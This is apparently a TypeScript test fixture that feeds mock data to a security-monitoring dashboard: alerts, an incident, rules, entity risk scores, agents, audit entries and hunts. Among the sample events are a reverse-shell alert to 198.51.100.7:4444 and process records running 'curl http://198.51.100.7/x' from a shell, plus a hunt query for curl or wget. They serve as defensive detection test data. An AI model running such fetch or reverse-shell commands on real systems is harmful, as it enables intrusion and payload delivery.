import {
  AlertState,
  AlertVerdict,
  EventClass,
  type Incident,
  type KeysReport,
  Outcome,
  type RuleSummary,
  Severity,
  type StatusReport,
  type StoredEvent,
  TriageAction,
} from '@threatguard/proto';
import { eventId } from '../../console/src/model/event.ts';
import type { DashboardSource } from '../../console/src/services/dashboard-source.ts';
import { scriptedSource } from '../support/dashboard.ts';
import { agent, alert, NOW_US, storedEvent } from './samples.ts';

const HOUR_US = 3_600_000_000;

export const STATUS: StatusReport = {
  storeState: 'ready',
  alertsOpen: 2,
  agentsConnected: 1,
  agentsEnrolled: 2,
  eventsPerSecond: 12.34,
  rulesLoaded: 120,
  kemAlgorithm: 'ML-KEM-768',
  kemEpoch: 3,
  losses: [{ name: 'spool overflow', count: 6 }],
};

export const SHELL = alert({
  id: '01kb4',
  ruleId: 'shell-on-socket',
  title: 'Interactive shell on a socket',
  severity: Severity.CRITICAL,
  techniques: ['T1059.004'],
  tactics: ['execution', 'command-and-control'],
  reason: '/usr/bin/bash run by root has its input on a connection to 198.51.100.7:4444',
  values: { 'user.name': 'root', 'source.ip': '198.51.100.7', 'process.executable': '/usr/bin/bash' },
  entity: 'process.executable=/usr/bin/bash',
  count: 1,
  raisedAtUs: NOW_US,
  updatedAtUs: NOW_US + 1,
});

function ran(pid: number, parentPid: number, args: string[], sequence: number): StoredEvent {
  return storedEvent({
    reference: { agentId: agent().id!, sequence, index: 0 },
    event: {
      observedAtUs: NOW_US,
      class: EventClass.PROCESS,
      outcome: Outcome.SUCCESS,
      user: { name: 'root' },
      process: { pid, parentPid, args, executable: args[0]!, parentExecutable: '/usr/sbin/sshd' },
    },
  });
}

const INCIDENT: Incident = {
  id: '01kc0',
  revision: 2,
  title: 'credential access to execution: web-1',
  severity: Severity.CRITICAL,
  state: 'open',
  tactics: ['credential-access', 'execution'],
  alerts: [
    {
      id: alert().id!,
      title: 'SSH brute force',
      severity: Severity.HIGH,
      tactics: ['credential-access'],
      firstAtUs: NOW_US - 5e6,
    },
    {
      id: '01kb4',
      title: 'Interactive shell on a socket',
      severity: Severity.CRITICAL,
      tactics: ['execution'],
      firstAtUs: NOW_US,
    },
  ],
  entities: [
    { kind: 'host', name: 'web-1' },
    { kind: 'address', name: '192.0.2.1' },
  ],
  firstAtUs: NOW_US - 5e6,
  lastAtUs: NOW_US,
  updatedAtUs: NOW_US,
};

const RULE: RuleSummary = {
  id: 'ssh-brute-force',
  title: 'SSH brute force',
  level: Severity.HIGH,
  kind: 'correlation',
  state: 'on',
  file: 'rules/bursts.yml',
  line: 3,
  speaks: true,
  techniques: ['T1110.001'],
  matches: 12,
  alerts: 1,
  lastMatchAtUs: NOW_US,
};

const ENTITY = {
  name: { kind: 'user', name: 'root@web-1' },
  risk: 80,
  reasons: [{ alertId: '01kb4', title: 'Interactive shell on a socket', contribution: 64, atUs: NOW_US }],
  firstSeenAtUs: NOW_US - HOUR_US,
  lastSeenAtUs: NOW_US,
};

const KEYS: KeysReport = {
  epochs: [
    {
      epoch: 3,
      state: 'announced',
      algorithm: 'ML-KEM-768',
      agentsSealing: 1,
      agentsHolding: 1,
      createdAtUs: NOW_US - 86_400e6,
    },
  ],
  nowUs: NOW_US,
};

function answers(): Partial<DashboardSource> {
  const events = [
    ran(701, 700, ['/bin/sh', '-c', 'curl http://198.51.100.7/x'], 8),
    ran(702, 701, ['curl', 'http://198.51.100.7/x'], 9),
    storedEvent(),
  ];
  return {
    getStatus: async () => STATUS,
    getVolumes: async () => ({
      alerts: Array.from({ length: 30 }, (_, hour) => ({
        hourUs: NOW_US - hour * HOUR_US,
        severity: hour % 3 === 0 ? Severity.CRITICAL : Severity.MEDIUM,
        count: (hour % 5) + 1,
      })),
      events: Array.from({ length: 24 }, (_, hour) => ({ hourUs: NOW_US - hour * HOUR_US, count: 100 * (hour % 7) })),
    }),
    listAlerts: async () => [SHELL, alert()],
    getAlert: async (id) => ({ alert: id.startsWith('01kb4') ? SHELL : alert(), events: [events[1]!, storedEvent()] }),
    alertHistory: async () => [
      {
        triageVersion: 1,
        atUs: NOW_US,
        actorKind: 'console',
        actorId: 'alice',
        action: TriageAction.NOTE,
        text: 'asked the owner',
      },
    ],
    actOnAlerts: async ({ targets = [] }) =>
      targets.map(({ id }) => ({
        id: id ?? '',
        alert: {
          ...SHELL,
          id: id ?? '',
          state: AlertState.CLOSED,
          verdict: AlertVerdict.TRUE_POSITIVE,
          triageVersion: 1,
          revision: 2,
          updatedAtUs: NOW_US + 2,
        },
      })),
    searchEvents: async () => ({ rows: events }),
    getEvent: async (id) => events.find((stored) => eventId(stored) === id)!,
    listEntities: async () => [
      ENTITY,
      {
        name: { kind: 'address', name: '192.0.2.1' },
        risk: 30,
        reasons: [{ title: 'SSH brute force', contribution: 30 }],
        lastSeenAtUs: NOW_US,
      },
    ],
    getEntity: async () => ({
      entity: ENTITY,
      history: [
        { atUs: NOW_US - 30 * HOUR_US, risk: 60 },
        { atUs: NOW_US - HOUR_US, risk: 85 },
      ],
      halfLifeUs: 6 * HOUR_US,
    }),
    listIncidents: async () => [INCIDENT],
    getIncident: async () => INCIDENT,
    listAgents: async () => [
      agent(),
      agent({ name: 'db-1', id: 'b', state: 'silent', lastSeenAtUs: NOW_US - HOUR_US, sensors: [] }),
    ],
    getAgent: async () => ({ agent: agent(), machineId: 'm-1', observedHour: 1, observedDay: 0.97 }),
    listAudit: async () => [
      {
        sequence: 9,
        atUs: NOW_US,
        actorKind: 'console',
        actorId: 'alice',
        from: '127.0.0.1:5',
        action: 'alert.close',
        subject: '01kb4',
        before: '{"state":"open"}',
        after: '{"state":"closed"}',
      },
    ],
    listIntel: async () => [{ kind: 'domain', value: 'bad.example', confidence: 90, tlp: 'amber', claims: [] }],
    listRules: async () => ({ rules: [RULE] }),
    showRule: async () => ({
      rule: RULE,
      description: 'Somebody guesses',
      text: 'title: SSH brute force\nlevel: high\n',
    }),
    setRuleState: async () => ({ rule: RULE, before: 'on' }),
    listHunts: async () => [
      { name: 'fetchers', query: 'exe:(*/curl or */wget)', everySeconds: 600, savedAtUs: NOW_US, ranAtUs: NOW_US },
    ],
    runHunt: async function* () {
      yield {
        groups: [
          { values: ['root'], count: 9 },
          { values: [''], count: 3 },
        ],
        columns: ['user.name', 'count'],
        complete: true,
      };
    },
    getKeys: async () => KEYS,
    revokeAgent: async () => ({ agentId: 'b', streamEnded: true }),
    rotateKeys: async () => ({ keys: { rotation: { epoch: 4 } } }),
  };
}

/** A source that answers all of it, as of NOW_US. */
export const filledSource = (more: Partial<DashboardSource> = {}) =>
  scriptedSource(NOW_US / 1000, { ...answers(), ...more });
